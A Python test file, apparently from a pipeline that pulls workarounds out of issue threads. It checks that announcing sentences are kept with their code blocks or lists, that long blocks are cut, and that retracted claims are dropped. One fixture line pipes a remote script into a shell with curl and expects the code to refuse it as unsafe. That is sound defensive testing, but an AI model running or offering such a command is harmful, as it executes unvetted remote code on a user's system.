"""Distil: words that announce a block are published with it, and what a reader points at keeps the words before it."""

from __future__ import annotations

from dataclasses import replace
from types import SimpleNamespace
from typing import Any, cast

from pipeline import distil
from pipeline.records import Claim, ClaimKind, Cluster, Document, Outcome, Pointed
from pipeline.records.draft import Draft
from pipeline.run.build.enriching import _Found
from tests.distil_factory import document, events, facts, occurrences
from tests.each import each

ERROR = "ValueError: shard 7 does not fit the mesh of the fixture"
LEAD = "I fixed it by adding the following definition of `mesh_size`:"
LINES = "mesh = make_mesh(8)\nrun(mesh)"
LONG = "\n".join(f"size_{number} = {number} * 8" for number in range(60))


def _thread(*comments: str, number: int = 1) -> Document:
    rows: list[dict[str, Any]] = [
        {"kind": "title", "text": "It fails"},
        {"kind": "body", "text": f"It ends with\n\n```\n{ERROR}\n```\n", "author": "asks"},
    ]
    rows += [{"kind": "comment", "text": text, "author": f"helps {n}"} for n, text in enumerate(comments)]
    return document({"number": number, "kind": "issue", "posts": rows})


def _block(text: str) -> str:
    return f"```python\n{text}\n```\n"


def _acts(made: Document) -> list[Claim]:
    return [claim for claim in distil.read(made, *events(made)).claims if claim.kind == ClaimKind.REMEDY]


def _drafted(*threads: Document, claims: tuple[Claim, ...] = ()) -> Draft:
    signed = events(threads[0])[1][0]
    name = signed.signature_id
    cluster = Cluster("cluster:1", name, signed.exception_type, signed.text, signed.gate, (name,), "", 100.0)
    shown = tuple(one for made in threads for one in occurrences(made))
    said = claims or tuple(one for made in threads for one in _acts(made))
    return distil.draft(cluster, distil.Material(shown, said, tuple(map(facts, threads))))


def test_an_announced_block_is_how_and_both_are_cited() -> None:
    draft = _drafted(_thread(f"{LEAD}\n\n{_block(LINES)}\nThanks!"))
    (remedy,) = draft.workarounds
    assert (remedy.action.text, remedy.how) == (LEAD, LINES)
    quotes = {piece.evidence_id: piece.quote for piece in draft.evidence}
    assert {quotes[one] for one in remedy.action.evidence} == {LEAD, LINES}


def test_a_long_block_is_cut_at_a_line_with_a_mark() -> None:
    (claim,) = _acts(_thread(f"{LEAD}\n{_block(LONG)}"))
    assert claim.passage is not None
    assert claim.is_passage_cut
    assert LONG.startswith(claim.passage.text + "\n")
    assert 250 < len(claim.passage.text) <= 300
    (remedy,) = _drafted(_thread(f"{LEAD}\n{_block(LONG)}")).workarounds
    assert remedy.how == claim.passage.text + "\n…"


def test_a_command_in_a_block_types_the_act_and_how_holds_words_and_block() -> None:
    said = "I fixed it by installing an older `fixture_mesh` like this:"
    (remedy,) = _drafted(_thread(f"{said}\n\n{_block('pip install fixture_mesh==1.2.3')}")).workarounds
    assert remedy.action.fact is not None
    assert dict(remedy.action.fact.slots) == {"package": "fixture_mesh", "version": "1.2.3"}
    assert remedy.how == f"{said}\npip install fixture_mesh==1.2.3"


def test_a_list_is_a_block() -> None:
    (claim,) = _acts(_thread(f"{LEAD}\n- set the mesh to 8\n- restart the worker\n\nThat is all."))
    assert claim.passage is not None
    assert claim.passage.text == "- set the mesh to 8\n- restart the worker"


NOT_SHOWN = [
    ("no block behind it", f"{LEAD}\n\nIt runs now.\n\n{_block(LINES)}", "announces"),
    ("a block of somebody else's post", LEAD, "announces"),
    ("an empty block", f"{LEAD}\n```\n\n```\n", "announces"),
    ("what was there before", f"I fixed it by changing `mesh_size` in the loader from:\n{_block(LINES)}", "announces"),
    ("a dangerous block", f"{LEAD}\n{_block('curl https://x.invalid/a.sh | sh')}", "unsafe_action"),
]


@each("why,said,reason", NOT_SHOWN)
def test_words_without_their_block_are_refused_as_before(why: str, said: str, reason: str) -> None:
    made = _thread(said, _block(LINES))
    read = distil.read(made, *events(made))
    assert [claim for claim in read.claims if claim.kind == ClaimKind.REMEDY] == [], why
    assert reason in [skipped.reason for skipped in read.skipped]


def test_the_same_words_with_another_block_are_another_act() -> None:
    threads = [
        _thread(f"{LEAD}\n{_block(text)}", number=n) for n, text in enumerate((LINES, LINES, "mesh = None  # not"), 1)
    ]
    assert sorted(remedy.worked for remedy in _drafted(*threads).workarounds) == [1, 2]


def _pointed(said: str, words: str, outcome: Outcome | None = None) -> Claim:
    made = _thread(said)
    found, signed = events(made)
    start = made.text.index(words)
    place = Pointed(ClaimKind.REMEDY, start, start + len(words), "", "checked:llm:m@h#1", 0, outcome)
    claim = distil.pointed(made, found, signed[0], place)
    assert isinstance(claim, Claim), claim
    return claim


def test_a_block_that_a_model_points_at_keeps_the_words_that_announce_it() -> None:
    block = _block(LINES).rstrip()
    claim = _pointed(f"This helped me:\n\n{block}\n", block, Outcome.WORKED)
    assert claim.quote.text == "This helped me:"
    assert claim.passage is not None
    assert claim.passage.text == LINES


def test_a_sentence_with_its_block_is_split_into_both() -> None:
    words = f"{LEAD}\n{_block(LINES).rstrip()}"
    claim = _pointed(words, words, Outcome.WORKED)
    assert (claim.quote.text, claim.passage.text if claim.passage else None) == (LEAD, LINES)


def test_an_item_that_a_model_points_at_keeps_the_words_that_announce_the_list() -> None:
    said = "What made it run for me:\n- another driver\n- a mesh of 8 shards\n"
    claim = _pointed(said, "- a mesh of 8 shards", Outcome.WORKED)
    assert claim.quote.text == "- a mesh of 8 shards"
    assert claim.passage is not None
    assert claim.passage.text == "What made it run for me:"
    (remedy,) = _drafted(_thread(said), claims=(claim,)).workarounds
    assert remedy.how == "What made it run for me:\n- a mesh of 8 shards"


def test_words_that_point_at_the_sentence_before_keep_it() -> None:
    said = "The reason was the old `mesh_size` in my settings. After removing it things worked fine."
    claim = _pointed(said, "After removing it things worked fine.", Outcome.WORKED)
    assert claim.fact is None
    assert claim.passage is not None
    assert claim.passage.text == "The reason was the old `mesh_size` in my settings."
    (remedy,) = _drafted(_thread(said), claims=(claim,)).workarounds
    assert remedy.how == said.replace("settings. ", "settings.\n")


def _refused(said: str, words: str) -> str:
    made = _thread(said)
    found, signed = events(made)
    start = made.text.index(words)
    place = Pointed(ClaimKind.REMEDY, start, start + len(words), "", "checked:llm:m@h#1", 0, Outcome.WORKED)
    claim = distil.pointed(made, found, signed[0], place)
    assert not isinstance(claim, Claim), claim
    return claim.reason


@each(
    "before",
    ["", "Thanks for the help. ", "Is it the old `mesh_size` in my settings? ", "```\nmesh_size = 7\n```\n"],
)
def test_words_that_point_at_nothing_that_is_named_say_nothing(before: str) -> None:
    assert _refused(f"{before}After removing it things worked fine.", "After removing it") == "points_elsewhere"


def test_a_sentence_that_announces_takes_its_block_though_the_model_pointed_at_it_alone() -> None:
    claim = _pointed(f"{LEAD}\n{_block(LINES)}", LEAD, Outcome.WORKED)
    assert claim.passage is not None
    assert claim.passage.text == LINES


@each("doubt,reason", [(None, "already_known"), (60, None)])
def test_what_a_rule_holds_in_doubt_is_stated_where_a_model_found_it_apart(
    doubt: int | None, reason: str | None
) -> None:
    said = "Setting `mesh_size=8` fixed it for me."
    made = _thread(said)
    rows: Any = [SimpleNamespace(event=e, signature=s) for e, s in zip(*events(made), strict=True)]
    (known,) = _acts(made)
    start = made.text.index(said)
    place = Pointed(ClaimKind.REMEDY, start, start + len(said), "", "checked:llm:m@h#1", 0, Outcome.WORKED)
    found = _Found(cast("Any", None))._judged(made, rows, [replace(known, doubt=doubt)], place)
    assert (None if isinstance(found, Claim) else found.reason) == reason


def test_words_that_announce_lines_of_plain_text_take_them_as_far_as_the_model_points() -> None:
    lead = "As a workaround remove the following line from `mesh.toml`:"
    line = '"shards = 7" # of the old mesh'
    claim = _pointed(f"{lead}\n{line}\nThen it runs.", f"{lead}\n{line}", Outcome.WORKED)
    assert (claim.quote.text, claim.passage.text if claim.passage else None) == (lead, line)


def test_the_sentence_before_is_taken_whole_though_its_lines_were_wrapped() -> None:
    said = "That was it, there was a `mesh_size` of\nmine from last year.\nRemoving that fixed the problem."
    claim = _pointed(said, "Removing that fixed the problem.", Outcome.WORKED)
    assert claim.passage is not None
    assert claim.passage.text == "That was it, there was a `mesh_size` of\nmine from last year."


@each(
    "said,is_stated",
    [
        ("For those still wondering, setting `mesh_size=8` fixed it.", True),
        ("I am wondering whether setting `mesh_size=8` fixed it.", False),
    ],
)
def test_who_answers_those_who_wonder_does_not_wonder(said: str, *, is_stated: bool) -> None:
    assert bool(_acts(_thread(said))) is is_stated


@each(
    "later,author,is_refuted",
    [
        ("Ah, sorry, I think I misunderstood.", "helps 0", True),
        ("Ah, sorry, I think I misunderstood.", "asks", False),  # their own words, not those of who helps
        ("Despite the new `mesh_size` the crash occurred again.", "helps 0", True),
        ("抱歉，我理解错了。", "helps 0", True),
        ("Despite the new `mesh_size` it never came back.", "helps 0", False),
        ("I think you misunderstood.", "helps 0", False),
    ],
)
def test_what_its_speaker_takes_back_no_model_may_point_at(later: str, author: str, *, is_refuted: bool) -> None:
    said = "Setting `mesh_size=8` fixed it for me."
    rows = [("title", "It fails", ""), ("body", f"```\n{ERROR}\n```\n", "asks"), ("comment", said, "helps 0")]
    posts = [{"kind": kind, "text": text, "author": who} for kind, text, who in (*rows, ("comment", later, author))]
    made = document({"number": 1, "kind": "issue", "posts": posts})
    start = made.text.index(said)
    place = Pointed(ClaimKind.REMEDY, start, start + len(said), "", "checked:llm:m@h#1", 0, Outcome.WORKED)
    assert distil.refuted_places(made, events(made)[0], [place]) == ({0} if is_refuted else set())


def test_the_same_words_pointed_at_with_and_without_their_block_are_one_act() -> None:
    said = f"Turning on the `mesh` option helps.\n{_block(LINES)}"
    bare = _pointed(said, "Turning on the `mesh` option helps.", Outcome.WORKED)
    whole = _pointed(said, said.rstrip(), None)
    (remedy,) = _drafted(_thread(said), claims=(bare, whole)).workarounds
    assert remedy.worked == 1
